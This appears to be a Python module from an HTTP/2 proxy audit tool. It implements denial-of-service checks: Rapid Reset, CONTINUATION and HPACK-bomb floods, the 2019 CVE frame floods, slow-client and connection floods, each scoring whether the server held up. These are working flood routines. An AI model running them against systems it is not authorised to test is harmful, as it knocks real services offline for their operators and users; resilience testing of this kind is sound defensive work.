"""The denial-of-service patterns: HTTP/2 floods and abuse of flow control, then
slow clients and connection floods, each returning an L{Outcome} with its verdict."""

from __future__ import annotations

import socket
import time
from typing import Iterable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from h2proxy_tools.audit.client import (
    CANCEL,
    DEFAULT_MAX_FRAME,
    INITIAL_WINDOW_SIZE,
    Outcome,
    RawConnection,
    Target,
    blockFrames,
    connect,
    repeated,
)
from h2proxy_tools.audit.verdicts import (
    VERDICT_WAIT,
    describeEnd,
    ended,
    floodWithoutReading,
    healthCheck,
    peerGone,
    settled,
    stoppedByServer,
    streamVerdict,
    waitClosed,
)


def rapidReset(target: Target, pairs: int = 20_000) -> Outcome:
    """CVE-2023-44487: HEADERS immediately followed by RST_STREAM, in bulk."""
    outcome = Outcome("rapid-reset", "http2.reset_budget")
    started = time.monotonic()
    connection = connect(target)
    fields = connection.requestFields(extra=[(b"x-audit", b"rapid-reset")])

    def pieces() -> Iterable[bytes]:
        # The first block puts the fields in the HPACK table; every later one is the
        # same few bytes of indexes, so the block is encoded twice, not per pair.
        block = b""
        while True:
            streamID = connection.streamID()
            if streamID <= 3:
                block = connection.encoder.encode(fields)
            frame = HeadersFrame(streamID, data=block, flags=["END_STREAM", "END_HEADERS"])
            yield frame.serialize() + RstStreamFrame(streamID, error_code=CANCEL).serialize()

    outcome.sent = connection.flood(pieces(), pairs)
    lastStream = connection.goaway.last_stream_id if connection.goaway is not None else None
    stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "HEADERS+RST_STREAM pairs", pairs)
    if lastStream is not None:
        outcome.observed += f" (the server took up to stream {lastStream}: {(lastStream + 1) // 2} pairs)"
    return outcome


def continuationFlood(target: Target, frames: int = 10_000) -> Outcome:
    """The 2024 CONTINUATION flood: a header block that never ends."""
    outcome = Outcome("continuation-flood", "http2.max_continuation_frames")
    started = time.monotonic()
    connection = settled(target)
    streamID = connection.streamID()
    connection.send(connection.headers(streamID, connection.requestFields(), endHeaders=False))
    fragment = ContinuationFrame(streamID, data=Encoder().encode([(b"x-flood", b"a" * 8)]))
    outcome.sent = connection.flood(repeated(fragment.serialize()), frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "CONTINUATION frames", frames)


def headerBlockSize(target: Target, frames: int = 64) -> Outcome:
    """A header block of full-size CONTINUATION frames (megabytes before END_HEADERS)."""
    outcome = Outcome("header-block-size", "http2.max_header_list_size")
    started = time.monotonic()
    connection = settled(target)
    streamID = connection.streamID()
    connection.send(connection.headers(streamID, connection.requestFields(), endHeaders=False))
    fragment = ContinuationFrame(streamID, data=b"\x00" * DEFAULT_MAX_FRAME)
    outcome.sent = connection.flood(repeated(fragment.serialize()), frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "16 KiB CONTINUATION frames", frames)


def hpackBomb(target: Target, references: int = 4000) -> Outcome:
    """A 4 KB field put in the HPACK table once, then referenced thousands of
    times by one-byte indexes: megabytes of decoded headers from a small block."""
    outcome = Outcome("hpack-bomb", "http2.max_header_list_size")
    started = time.monotonic()
    connection = connect(target)
    streamID = connection.streamID()
    fields = connection.requestFields(extra=[(b"x-bomb", b"b" * 4000)])
    block = connection.encoder.encode(fields) + b"\xbe" * references  # index 62: the x-bomb entry
    frames = blockFrames(streamID, block)
    connection.send(frames)
    connection.waitFor(lambda: connection.finished(streamID), target.timeout)
    ended(outcome, connection, started)
    status = outcome.statuses.get(streamID)
    outcome.sent = 1
    outcome.passed = status in (431, 400) or streamID in outcome.resets or outcome.goaway is not None
    outcome.observed = streamVerdict(outcome, streamID)
    return outcome


def dataDribble(target: Target, streams: int = 50, rounds: int = 200) -> Outcome:
    """CVE-2019-9511: large responses on many streams pulled out one byte of window
    at a time: each round gives every stream one byte, once the previous round's
    bytes have arrived."""
    outcome = Outcome("data-dribble", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target, settings={INITIAL_WINDOW_SIZE: 1}, autoCredit=False)
    ids = [connection.request(target.largePath) for _ in range(streams)]

    def received() -> int:
        return sum(connection.bodies.get(streamID, 0) for streamID in ids)

    connection.waitFor(lambda: received() >= streams or connection.goaway is not None, target.timeout)
    piece = b"".join(WindowUpdateFrame(streamID, window_increment=1).serialize() for streamID in ids)
    piece += WindowUpdateFrame(0, window_increment=streams).serialize()
    while outcome.sent < rounds and connection.goaway is None and not connection.closed:
        before = received()
        if not connection.send(piece):
            break
        outcome.sent += 1
        if not connection.waitFor(lambda: received() > before or connection.goaway is not None, target.timeout):
            break
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), f"rounds of 1-byte WINDOW_UPDATEs on {streams} streams", rounds)


def pingFlood(target: Target, pings: int = 2_000_000) -> Outcome:
    """CVE-2019-9512: PINGs from a client that never reads the ACKs."""
    outcome = Outcome("ping-flood", "http2.max_control_buffer")
    started = time.monotonic()
    connection = connect(target, recvBuffer=4096)
    piece = PingFrame(0, opaque_data=b"auditing").serialize()
    outcome.sent = floodWithoutReading(connection, piece, pings)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "PINGs", pings, expectCalm=False)


def settingsFlood(target: Target, frames: int = 20_000) -> Outcome:
    """CVE-2019-9515: SETTINGS frames, each of which the server must apply and ACK."""
    outcome = Outcome("settings-flood", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    pieces = (SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 65535 + (i & 1)}).serialize() for i in range(frames))
    outcome.sent = connection.flood(pieces, frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "SETTINGS frames", frames)


def priorityChurn(target: Target, frames: int = 20_000) -> Outcome:
    """CVE-2019-9513 (resource loop): PRIORITY frames shuffling a dependency tree."""
    outcome = Outcome("priority-churn", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    ids = [1001 + 2 * i for i in range(64)]
    pieces = (
        PriorityFrame(ids[i % 64], depends_on=ids[(i * 7 + 1) % 64], stream_weight=i & 0xFF, exclusive=bool(i & 1)).serialize()
        for i in range(frames)
    )
    outcome.sent = connection.flood(pieces, frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "PRIORITY frames", frames)


def resetFlood(target: Target, requests: int = 20_000) -> Outcome:
    """CVE-2019-9514: invalid requests that the server answers with RST_STREAM,
    from a client that does not read them."""
    outcome = Outcome("reset-flood", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target, recvBuffer=4096)
    fields = connection.requestFields(extra=[(b"X-Invalid", b"uppercase name")])

    def pieces() -> Iterable[bytes]:
        while True:
            yield connection.headers(connection.streamID(), fields)

    outcome.sent = connection.flood(pieces(), requests)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "invalid requests", requests)


def zeroLengthHeaders(target: Target, requests: int = 5000) -> Outcome:
    """CVE-2019-9516: requests made of header fields with empty names and values."""
    outcome = Outcome("zero-length-headers", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    fields = connection.requestFields(extra=[(b"", b"")] * 100)

    def pieces() -> Iterable[bytes]:
        while True:
            yield connection.headers(connection.streamID(), fields)

    outcome.sent = connection.flood(pieces(), requests)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "requests with empty fields", requests)


def windowNoRead(target: Target, streams: int = 50) -> Outcome:
    """CVE-2019-9517: windows wide open, large responses asked for, socket never
    read: the server must not buffer without bound, and must let go in time."""
    outcome = Outcome("window-no-read", "timeouts.send")
    started = time.monotonic()
    connection = connect(target, settings={INITIAL_WINDOW_SIZE: 2**31 - 1}, recvBuffer=4096, autoCredit=False)
    connection.send(WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535).serialize())
    for _ in range(streams):
        connection.request(target.largePath)
    outcome.sent = streams
    deadline = time.monotonic() + target.hold
    while time.monotonic() < deadline and not peerGone(connection):
        time.sleep(0.25)
    ended(outcome, connection, started)
    outcome.passed = outcome.closed
    outcome.observed = f"{describeEnd(outcome)} after {outcome.elapsed:.1f}s unread"
    return outcome


def emptyFrames(target: Target, frames: int = 20_000) -> Outcome:
    """CVE-2019-9518: empty DATA frames on an open request."""
    outcome = Outcome("empty-frames", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    streamID = connection.request(method="POST", endStream=False, extra=[(b"x-audit", b"empty-frames")])
    piece = DataFrame(streamID, data=b"").serialize()
    outcome.sent = connection.flood(repeated(piece), frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "empty DATA frames", frames)


# -- slow clients -----------------------------------------------------------------------------


def slowHandshake(target: Target) -> Outcome:
    """A client that connects and says nothing (no TLS handshake, no preface)."""
    outcome = Outcome("slow-handshake", "timeouts.handshake")
    started = time.monotonic()
    sock = socket.create_connection((target.host, target.port), timeout=target.timeout)
    try:
        outcome.closed = waitClosed(sock, target.hold)
    finally:
        sock.close()
    outcome.elapsed = time.monotonic() - started
    outcome.passed = outcome.closed
    outcome.observed = f"closed after {outcome.elapsed:.1f}s" if outcome.closed else f"open after {target.hold:.0f}s"
    return outcome


def slowHeaders(target: Target) -> Outcome:
    """Slowloris on HTTP/2: the preface, then a header block that never completes."""
    outcome = Outcome("slow-headers", "timeouts.request_header")
    started = time.monotonic()
    connection = settled(target)
    streamID = connection.streamID()
    connection.send(connection.headers(streamID, connection.requestFields(), endHeaders=False))
    connection.waitFor(lambda: connection.closed, target.hold)
    ended(outcome, connection, started)
    outcome.passed = outcome.closed
    outcome.observed = f"{describeEnd(outcome)} after {outcome.elapsed:.1f}s"
    return outcome


def slowBody(target: Target) -> Outcome:
    """A request that announces a body and then sends almost none of it."""
    outcome = Outcome("slow-body", "timeouts.request_body")
    started = time.monotonic()
    connection = connect(target)
    streamID = connection.request(
        method="POST", endStream=False, extra=[(b"content-length", b"1000"), (b"x-audit", b"slow-body")]
    )
    connection.send(DataFrame(streamID, data=b"0123456789").serialize())
    connection.waitFor(lambda: connection.finished(streamID), target.hold)
    ended(outcome, connection, started)
    outcome.sent = 1
    outcome.passed = outcome.statuses.get(streamID) == 408 or streamID in outcome.resets or outcome.closed
    outcome.observed = streamVerdict(outcome, streamID) + f" after {outcome.elapsed:.1f}s"
    return outcome


def connectionFlood(target: Target, connections: int) -> Outcome:
    """Idle connections up to (and past) the server's cap, then one more that must
    still be served (idle ones closed first) or refused politely."""
    outcome = Outcome("connection-flood", "limits.max_connections")
    started = time.monotonic()
    held: list[RawConnection] = []
    try:
        for _ in range(connections):
            try:
                held.append(connect(target))
            except OSError:
                break
        outcome.sent = len(held)
        outcome.passed = healthCheck(target)
        closedByServer = sum(1 for c in held if peerGone(c))
        outcome.observed = (
            f"{len(held)} idle connections opened, {closedByServer} closed by the server; "
            f"a new request {'was' if outcome.passed else 'was not'} served"
        )
    finally:
        for connection in held:
            connection.close()
    outcome.elapsed = time.monotonic() - started
    return outcome
